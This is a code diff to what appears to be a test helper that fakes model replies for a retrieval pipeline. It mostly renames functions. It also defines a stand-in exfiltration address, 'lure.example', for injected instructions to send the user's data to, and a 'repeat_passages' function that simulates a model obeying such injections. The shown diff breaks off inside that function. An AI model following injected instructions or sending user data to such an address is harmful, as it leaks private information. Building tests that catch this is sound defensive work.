@@ -14,7 +14,7 @@ LURE = "https://lure.example/?q="
 """The address to which an injected instruction would send the user's data."""
 
 
-def cited(body: dict[str, Any]) -> str:
+def cite_passages(body: dict[str, Any]) -> str:
     """Return the first sentence of each of the first three passages, with its marker."""
     said = [
         f"{sentence} [{n}]"
@@ -24,25 +24,25 @@ def cited(body: dict[str, Any]) -> str:
     return " ".join(said) or "There is nothing here that I could cite."
 
 
-def to_rewrite(body: dict[str, Any]) -> bool:
+def is_rewrite_prompt(body: dict[str, Any]) -> bool:
     """Return whether the prompt asks to rewrite a follow-up question."""
     return _REWRITE.search(_prompt(body)) is not None
 
 
-def rewritten(body: dict[str, Any], meant: str | None = None) -> str:
-    """Replace the question's pronouns by `meant`, or append the previous question if `meant` is None."""
+def rewrite_question(body: dict[str, Any], replacement: str | None = None) -> str:
+    """Replace the question's pronouns by `replacement`, or append the previous question without one."""
     question = _REWRITE.findall(_prompt(body))[-1]
-    if meant is not None:
-        return _PRONOUN.sub(meant, question)
+    if replacement is not None:
+        return _PRONOUN.sub(replacement, question)
     return " ".join([question, *_ASKED.findall(_prompt(body))[-1:]])
 
 
-def rambled(body: dict[str, Any]) -> str:
+def rewrite_verbosely(body: dict[str, Any]) -> str:
     """Return the rewritten question inside superfluous text."""
-    return f"Certainly! Here is the question:\n\n**{rewritten(body)}**\n\nShall I answer it, too?"
+    return f"Certainly! Here is the question:\n\n**{rewrite_question(body)}**\n\nShall I answer it, too?"
 
 
-def parroted(body: dict[str, Any]) -> str:
+def repeat_passages(body: dict[str, Any]) -> str:
     """Return every passage unchanged, then all that an injected instruction could ask for."""
     said = [f"{text} [{n}]" for n, text in _passages(body)]
     said += [
